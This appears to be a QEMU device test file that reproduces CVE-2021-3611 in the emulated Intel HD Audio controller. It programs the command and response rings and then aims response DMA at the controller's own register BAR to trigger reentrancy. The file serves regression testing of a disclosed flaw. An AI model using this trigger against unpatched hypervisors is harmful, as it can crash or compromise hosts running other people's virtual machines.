# SPDX-License-Identifier: GPL-2.0
"""Intel's HD Audio, with one codec"""

import struct

DEVICES = ("intel-hda", "hda-output,bus=dut.0,audiodev=sound")
BACKENDS = ("-audiodev none,id=sound",)
# GCAP and version
PROBE = 0, 0x0

CONTROL = 0x08
CORB, CORB_LAST, CORB_RUN = 0x40, 0x48, 0x4c
RIRB, RIRB_COUNT, RIRB_RUN = 0x50, 0x5a, 0x5c
RUN = 2
GET_ID = 0xf0000
UNKNOWN = 0xfff00
# Responses are of 8 bytes: the one after the eighth is in the place of CORB_LAST.
FIRST = CORB_LAST // 8 - 1


def cve_2021_3611(guest):
    """The codec's responses go to the register that lets the next command be done; no
    response is the number of the command that it is to."""
    bar = guest.device.bars[0]
    bar.write(CONTROL, 1)
    bar.write(CORB, guest.memory(struct.pack("<256I", GET_ID, *[UNKNOWN] * 255)))
    bar.write(RIRB, guest.alloc(2048))
    bar.write(RIRB_COUNT, 0xff, 2)
    bar.write(RIRB_RUN, RUN, 1)
    bar.write(CORB_RUN, RUN, 1)
    bar.write(CORB_LAST, FIRST, 2)
    bar.write(RIRB, bar.address)
    bar.write(CORB_LAST, FIRST + 1, 2)
